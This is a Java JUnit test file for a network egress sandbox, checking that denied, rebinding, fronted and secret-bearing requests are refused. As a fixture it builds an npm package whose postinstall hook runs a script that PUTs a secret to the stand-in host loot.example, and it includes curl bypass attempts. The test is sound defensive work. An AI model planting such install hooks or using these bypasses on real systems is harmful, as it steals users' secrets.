package io.mcpsf.boundary;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.model.Cidr;
import io.mcpsf.model.NetworkObservation.EgressRefused;
import io.mcpsf.model.NetworkObservation.RequestForwarded;
import io.mcpsf.model.NetworkObservation.RequestSent;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.os.Command;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

/** What may leave, and that nothing else does. */
@Tag("chamber")
class PolicyTest {

    @TempDir Path folder;

    @Test
    @EnabledIf("io.mcpsf.boundary.Needs#root")
    void aNameThatPointsHomeIsNotFollowed() throws Exception {
        // A name that every resolver turns into 127.0.0.1: the simplest rebinding there is.
        EgressPolicy policy =
                EgressPolicy.sinkhole().allowing(new EgressPolicy.Allowed("localhost", 80, true));
        try (var inside = new Inside(folder, BoundarySpec.Options.plain().with(policy))) {
            Command.Result said =
                    inside.run(
                            "curl",
                            "-sS",
                            "-m",
                            "20",
                            "-H",
                            "Host: localhost",
                            "http://198.51.100.1/secret");

            assertThat(said.stdout()).isEqualTo("Bad Gateway\n");
            assertThat(inside.await(EgressRefused.class, r -> true).why())
                    .isEqualTo("no public address");
        }
    }

    @Test
    @EnabledIf("io.mcpsf.boundary.Needs#root")
    void whatIsDeniedIsReset() throws Exception {
        EgressPolicy policy =
                EgressPolicy.sinkhole()
                        .denying(new EgressPolicy.Denied(Cidr.parse("198.51.100.0/24"), 22, 22));
        try (var inside = new Inside(folder, BoundarySpec.Options.plain().with(policy))) {
            Command.Result said = inside.run("curl", "-sS", "-m", "20", "http://198.51.100.1:22/");

            assertThat(said.good()).isFalse();
            inside.await(EgressRefused.class, r -> r.destination().equals("198.51.100.1:22"));
            assertThat(inside.run("curl", "-sS", "http://198.51.100.1:23/").good()).isTrue();
        }
    }

    @Test
    @EnabledIf("io.mcpsf.boundary.Needs#npm")
    void aPackageIsInstalledFromTheRegistryAndItsThiefIsCaught() throws Exception {
        URI registry =
                URI.create(Command.of("npm", "config", "get", "registry").run().stdout().strip());
        String host = registry.getHost();
        int port = registry.getScheme().equals("https") ? 443 : 80;
        EgressPolicy policy =
                EgressPolicy.sinkhole().allowing(new EgressPolicy.Allowed(host, port, true));
        Path project = Files.createDirectory(folder.resolve("project"));
        Path thief = Files.createDirectory(folder.resolve("thief"));
        Files.writeString(
                thief.resolve("package.json"),
                """
                {"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}
                """);
        Files.writeString(
                thief.resolve("steal.js"),
                """
                const r = require('https').request('https://loot.example/x',
                  {method: 'PUT'}, a => a.resume());
                r.end('%s');
                """
                        .formatted(Inside.SECRET));
        Files.writeString(
                project.resolve("package.json"),
                """
                {"name": "p", "version": "1.0.0", "dependencies":
                  {"is-number": "7.0.0", "thief": "file:../thief"}}
                """);
        try (var inside = new Inside(folder, BoundarySpec.Options.plain().with(policy))) {
            Command.Result said =
                    inside.run(
                            Map.of(
                                    "npm_config_registry", registry.toString(),
                                    "npm_config_cache", folder.resolve("cache").toString(),
                                    "npm_config_audit", "false",
                                    "npm_config_fund", "false",
                                    "npm_config_update_notifier", "false",
                                    "npm_config_install_links", "true"),
                            "npm",
                            "install",
                            "--prefix",
                            project.toString());

            assertThat(said.stdout()).contains("added 2 packages");
            assertThat(project.resolve("node_modules/is-number/index.js")).exists();
            RequestForwarded forwarded =
                    inside.await(RequestForwarded.class, r -> r.url().endsWith(".tgz"));
            assertThat(forwarded.status()).isEqualTo(200);
            assertThat(
                            inside.await(
                                            RequestSent.class,
                                            r -> r.url().equals("https://loot.example/x"))
                                    .method())
                    .isEqualTo("PUT");
            inside.await(BaitLeft.class, b -> b.destination().equals("loot.example:443"));
            mischief(inside, registry, host);
        }
    }

    /** The allowed host is not a way out for anything but plain reading. */
    private static void mischief(Inside inside, URI registry, String host)
            throws InterruptedException {
        String base = registry.resolve("/").toString();
        String put = code(inside, "-X", "PUT", "-d", "x", base + "up");
        String fronted = code(inside, "-H", "Host: other.example", base + "front");
        String baited = code(inside, base + "pkg/" + Inside.SECRET);

        assertThat(put).isEqualTo("403");
        assertThat(baited).isEqualTo("403");
        assertThat(fronted).isEqualTo("200");
        inside.await(EgressRefused.class, r -> r.why().equals("PUT is not a read-only method"));
        inside.await(EgressRefused.class, r -> r.why().equals("bait in an allowed request"));
        assertThat(inside.all(RequestForwarded.class))
                .allMatch(r -> URI.create(r.url()).getHost().equals(host));
    }

    private static String code(Inside inside, String... more) throws InterruptedException {
        String[] argv = new String[more.length + 7];
        String[] first = {"curl", "-sS", "-m", "20", "-o", "/dev/null", "-w%{http_code}"};
        System.arraycopy(first, 0, argv, 0, 7);
        System.arraycopy(more, 0, argv, 7, more.length);
        return inside.run(argv).stdout();
    }
}
